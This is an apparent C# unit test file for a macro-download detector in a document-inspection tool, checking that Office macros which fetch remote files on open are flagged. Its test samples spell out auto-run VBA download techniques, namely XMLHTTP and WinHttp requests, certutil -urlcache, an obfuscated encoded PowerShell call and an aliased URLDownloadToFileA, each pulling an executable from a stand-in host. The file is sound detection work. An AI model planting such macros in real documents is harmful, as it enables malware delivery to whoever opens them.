using Sekisho.Inspection.Detection.Macros;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Macros;

public class MacroDownloadsTests
{
    [Theory]
    [InlineData("Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://a.example/x.exe\", False: h.Send")]
    [InlineData("With CreateObject(\"WinHttp.WinHttpRequest.5.1\"): .Open \"GET\", \"http://a.example\" & \"/x.exe\": .Send: End With")]
    [InlineData("Shell \"certutil -urlcache -f http://a.example/x.exe x.exe\"")]
    [InlineData("Shell \"pow\" & \"ershell -enc JABhAD0AJwBiAGMAZABlAGYAZwBoACcA\"")]
    [InlineData("Workbooks.Open \"http://a.example/x.xls\"")]
    public void SelfStartThatFetches_IsFound(string statements) =>
        Assert.Equal(["MACRO_DOWNLOADS"], Letters.Codes(new MacroDownloads(), "a.doc", Samples.OldDocument($"Sub AutoOpen()\r\n{statements.Replace(": ", "\r\n")}\r\nEnd Sub")));

    [Fact]
    public void DeclaredFunctionByAnotherName_IsFound() =>
        Assert.Contains("a.example/x", Assert.Single(Letters.Ask(new MacroDownloads(), "a.doc", Samples.OldDocument("Private Declare PtrSafe Function Qq Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\r\nSub Document_Open()\r\nx = Qq(0, \"http://a.example/x\", Environ(\"TEMP\") & \"\\y.exe\", 0, 0)\r\nEnd Sub"))).Evidence, StringComparison.Ordinal);

    [Fact]
    public void ButtonThatFetches_IsLess_AndAQueryOfADatabaseIsNothing()
    {
        Assert.Equal(["MACRO_DOWNLOADS_LATER"], Letters.Codes(new MacroDownloads(), "a.doc", Samples.OldDocument("Sub Button_Click()\r\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"http://a.example\"\r\nh.Send\r\nEnd Sub")));
        Assert.Empty(Letters.Codes(new MacroDownloads(), "a.doc", Samples.OldDocument("Sub AutoOpen()\r\nSet c = CreateObject(\"ADODB.Connection\")\r\nc.Open \"DSN=Claims\"\r\nSet r = c.Execute(\"SELECT * FROM shifts\")\r\nEnd Sub")));
    }
}
